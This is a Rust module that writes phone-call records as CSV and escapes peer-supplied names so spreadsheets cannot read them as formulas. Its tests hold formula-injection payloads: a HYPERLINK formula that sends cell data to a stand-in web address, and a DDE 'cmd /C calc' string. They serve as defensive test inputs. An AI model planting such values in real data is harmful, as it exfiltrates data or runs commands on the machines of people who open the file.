//! Records of calls as CSV (RFC 4180).
//!
//! Decides the columns and the escapes. The names come from peers, and a spreadsheet takes a cell that begins with `=`, `+`,
//! `-` or `@` for a formula, which may send other cells to a web site. Such a cell begins with an apostrophe, except a
//! number such as `+4989123451`. Where numbers have a decimal comma, a spreadsheet begins a cell after each semicolon.

use location::Wall;

use super::calls::EndedCall;
use crate::clock;
use crate::text::printable::push_printable;

/// The first line.
pub(crate) const HEADER: &str = "start,answer,end,from,to,reached,ending,status,seconds\r\n";

/// Appends the line of a call. Its times are those of the machine's clock, in UTC.
pub(crate) fn append(line: &mut String, call: &EndedCall) {
    let time = |at: u64| clock::rfc3339(Wall(at));
    let cells = [
        time(call.began),
        call.answered.map(time).unwrap_or_default(),
        time(call.ended),
        cell(&call.from),
        cell(&call.to),
        cell(call.reached.as_deref().unwrap_or_default()),
        call.ending_word().to_owned(),
        call.status.map(|status| status.to_string()).unwrap_or_default(),
        call.talked().map(|talked| ((talked.as_millis() + 500) / 1000).to_string()).unwrap_or_default(),
    ];
    line.push_str(&cells.join(","));
    line.push_str("\r\n");
}

/// A text of a peer as a cell.
fn cell(text: &str) -> String {
    let mut cell = String::with_capacity(text.len());
    for part in text.split_inclusive(';') {
        if is_formula(part.trim_end_matches(';')) {
            cell.push('\'');
        }
        part.chars().for_each(|c| push_printable(&mut cell, c));
    }
    if cell.contains([',', '"']) { format!("\"{}\"", cell.replace('"', "\"\"")) } else { cell }
}

/// Whether a spreadsheet may take a text for a formula.
fn is_formula(text: &str) -> bool {
    let number = text.strip_prefix('+').map(|rest| rest.split_once('@').map_or(rest, |(number, _)| number));
    match number {
        Some(number) => number.is_empty() || !number.bytes().all(|octet| octet.is_ascii_digit()),
        None => text.starts_with(['=', '-', '@', '\t', '\r', '\n']),
    }
}

#[cfg(test)]
mod tests {
    use super::super::calls::HungUp;
    use super::super::calls::tests::ended;
    use super::*;
    use crate::text::ending::Ending;

    #[test]
    fn a_line_has_the_columns_of_the_header() {
        let answered = EndedCall {
            answered: Some(5_000),
            ending: Ending::Answered,
            hung_up: Some(HungUp::Callee),
            status: Some(200),
            reached: Some("103@office.example".to_owned()),
            ..ended(0, 70_400)
        };
        let lines = |call: &EndedCall| {
            let mut line = String::new();
            append(&mut line, call);
            line
        };
        let [start, answer, end] = [0, 5_000, 70_400].map(|at| clock::rfc3339(Wall(at)));
        let names = "102@office.example,+4989123451@office.example";
        assert_eq!(
            lines(&answered),
            format!("{start},{answer},{end},{names},103@office.example,callee_hung_up,200,65\r\n")
        );
        let unanswered = EndedCall { status: None, ending: Ending::Unanswered, ..ended(0, 70_400) };
        assert_eq!(lines(&unanswered), format!("{start},,{end},{names},,unanswered,,\r\n"));
        assert_eq!(HEADER.split(',').count(), lines(&answered).split(',').count());
    }

    #[test]
    fn names_of_peers_are_neither_formulas_nor_further_cells() {
        for (name, expected) in [
            ("101@office.example", "101@office.example"),
            ("+4989123451@office.example", "+4989123451@office.example"),
            ("=HYPERLINK(\"http://x\",A1)@a", "\"'=HYPERLINK(\"\"http://x\"\",A1)@a\""),
            ("+1+cmd|' /C calc'!A0@a", "'+1+cmd|' /C calc'!A0@a"),
            ("-2@a", "'-2@a"),
            ("@a", "'@a"),
            ("+49;=1+1;+49@a", "+49;'=1+1;+49@a"),
            ("a\r\nb,c", "\"a\\u000d\\u000ab,c\""),
        ] {
            assert_eq!(cell(name), expected);
        }
    }
}
